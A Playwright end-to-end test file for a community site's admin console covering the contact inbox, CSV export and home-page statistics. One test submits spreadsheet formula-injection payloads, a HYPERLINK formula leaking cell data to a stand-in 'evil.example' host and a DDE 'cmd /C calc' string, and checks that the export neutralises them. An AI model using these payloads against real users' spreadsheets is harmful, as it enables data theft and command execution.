import { readFileSync } from 'node:fs';
import type { Browser } from 'playwright-core';
import { ServerProcess, launchBrowser, openPage, startServerProcess } from '@sangam/backend/testing';
import { signInContext, withDb } from './support/admin';

/** The contact messages inbox and the statistics editor behind the home page's panel. */
describe('admin console: contact messages and statistics', () => {
  let srv: ServerProcess;
  let browser: Browser;
  beforeAll(async () => {
    [srv, browser] = await Promise.all([startServerProcess(), launchBrowser()]);
  });
  afterAll(async () => {
    await browser?.close();
    await srv?.stop();
  });

  it('reads a contact message and marks it handled', async () => {
    const id = await withDb(srv.databaseUrl, async (db) => {
      const r = await db.query<{ id: string }>(
        `INSERT INTO contact_messages (name, email, subject, message) VALUES ('Priya Raman', 'priya@example.com', 'Listing our Pongal event', 'Hello, how do we list our Pongal celebration?') RETURNING id`,
      );
      return r.rows[0].id;
    });
    const { page, context } = await openPage(browser);
    await signInContext(context, srv.url);
    await page.goto(srv.url + '/admin/contact-messages');
    await page.getByRole('cell', { name: 'Listing our Pongal event' }).click();
    await page.getByText('Hello, how do we list our Pongal celebration?').waitFor();
    await page.getByRole('button', { name: 'Mark handled' }).click();
    await page.getByText('Message marked as handled.').waitFor();
    // The inbox shows new messages by default: the handled one leaves it.
    await page.getByRole('cell', { name: 'Listing our Pongal event' }).waitFor({ state: 'detached' });
    const row = await withDb(srv.databaseUrl, (db) =>
      db.query<{ handled: boolean }>('SELECT handled FROM contact_messages WHERE id = $1', [id]),
    );
    expect(row.rows[0].handled).toBe(true);
    await context.close();
  });

  it('exports messages to CSV with what visitors typed kept as text, never a spreadsheet formula', async () => {
    // Anyone can send a contact message: an attacker's formula must not run in the admin's spreadsheet.
    const sent = await fetch(srv.url + '/api/contact', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({
        name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        email: 'attacker@example.com',
        subject: '+SUM(1+1)*cmd|" /C calc"!A0',
        message: '@import and -2+3 and plain text',
      }),
    });
    expect(sent.status).toBe(201);
    const { page, context } = await openPage(browser);
    await signInContext(context, srv.url);
    await page.goto(srv.url + '/admin/contact-messages');
    await page.getByRole('cell', { name: /SUM\(1\+1\)/ }).waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export' }).click()]);
    const csv = readFileSync((await download.path())!, 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    expect(csv).toContain(`'+SUM(1+1)*cmd|`);
    expect(csv).toContain(`'@import and -2+3 and plain text`);
    expect(csv).toContain('attacker@example.com');
    // No cell of the file starts a formula.
    expect(csv.split(/[\n,]/).filter((cell) => /^"?[=+\-@]/.test(cell))).toEqual([]);
    await context.close();
  });

  it('edits the statistics shown on the home page', async () => {
    await withDb(srv.databaseUrl, (db) =>
      db.query(
        `INSERT INTO community_stats (region, "totalFamilies", "totalOrganizations", "monthlyViews") VALUES ('national', 12600, 19, 185000) ON CONFLICT (region) DO NOTHING`,
      ),
    );
    const { page, context } = await openPage(browser);
    await signInContext(context, srv.url);
    await page.goto(srv.url + '/admin/community-stats');
    await page.getByRole('cell', { name: 'national' }).click();
    const families = page.getByLabel('NRI Families');
    await families.waitFor();
    expect(await families.inputValue()).toBe('12600');
    await families.fill('13050');
    await page.getByText('Shown on the home page as 13.1K').waitFor();
    await page.getByRole('button', { name: 'Save statistics' }).click();
    await page.waitForURL((u) => u.pathname === '/admin/community-stats');
    await page.getByRole('cell', { name: '13.1K' }).waitFor();

    const stats = (await (await fetch(`${srv.url}/api/stats`)).json()) as {
      totalFamilies: number;
      totalOrganizations: number;
      monthlyViews: number;
    };
    expect(stats).toMatchObject({ totalFamilies: 13050, totalOrganizations: 19, monthlyViews: 185000 });
    await context.close();
  });
});
